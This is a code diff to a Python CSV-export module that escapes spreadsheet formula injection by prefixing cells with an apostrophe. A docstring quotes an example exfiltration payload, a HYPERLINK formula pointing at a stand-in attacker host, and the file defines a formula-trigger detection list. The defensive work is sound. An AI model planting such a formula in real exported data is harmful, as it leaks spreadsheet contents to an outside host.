@@ -7,7 +7,6 @@ spreadsheet opened with a double click: `;` between fields, `,` in numbers, a UT
 """
 
 import csv
-import functools
 import re
 from collections.abc import Iterable, Iterator
 from dataclasses import dataclass
@@ -59,13 +58,11 @@ def dialect_of(query) -> Dialect:
 NUMBER = re.compile(r"^[-+]?\d[\d.,\s]*%?$")
 
 
-@functools.cache
-def _cell_start() -> re.Pattern:
-    """Where a spreadsheet may start a cell in a text: at its start, and after a semicolon or a line break, where
-    Danish Excel (which splits rows at semicolons) may start one whatever the quoting."""
-    from budgets.workbooks import FORMULA_TRIGGERS  # the workbooks import the exports, which write with this module
-
-    return re.compile("(^|[;\r\n])(?=[" + re.escape("".join(FORMULA_TRIGGERS)) + "])")
+# Text that a spreadsheet would read as a formula or a command if it came first in a cell (the workbooks too).
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+# Where a spreadsheet may start a cell in a text: at its start, and after a semicolon or a line break, where
+# Danish Excel (which splits rows at semicolons) may start one whatever the quoting.
+CELL_START = re.compile("(^|[;\r\n])(?=[" + re.escape("".join(FORMULA_TRIGGERS)) + "])")
 
 
 def spreadsheet_text(value) -> str:
@@ -73,10 +70,12 @@ def spreadsheet_text(value) -> str:
     such as '=HYPERLINK("http://evil.example/?leak="&A1)') gets an apostrophe in front, as the workbooks' text
     does, at its start and wherever a cell could start inside it. Numbers, negative ones included, stay as they
     are."""
-    text = "" if value is None else force_str(value)
-    if NUMBER.match(text):
+    text = value if type(value) is str else "" if value is None else force_str(value)
+    if (not text.startswith(FORMULA_TRIGGERS) and ";" not in text and "\n" not in text and "\r" not in text) or (
+        NUMBER.match(text)
+    ):
         return text
-    return _cell_start().sub(r"\1'", text)
+    return CELL_START.sub(r"\1'", text)
 
 
 class _Echo:
@@ -113,9 +112,11 @@ class CsvWriter:
         return self.text(value)
 
     def lines(self, header: list[str], rows: Iterable[Iterable]) -> Iterator[str]:
-        yield (BOM if self.dialect.bom else "") + self._writer.writerow([self.text(name) for name in header])
+        writerow, text, field = self._writer.writerow, self.text, self.field
+        yield (BOM if self.dialect.bom else "") + writerow([text(name) for name in header])
         for row in rows:
-            yield self._writer.writerow([self.field(value) for value in row])
+            # Text, most fields, without a call more.
+            yield writerow([text(value) if type(value) is str else field(value) for value in row])
 
 
 def csv_response(lines: Iterable[str], filename: str, disposition: str = "attachment", streaming: bool = False):
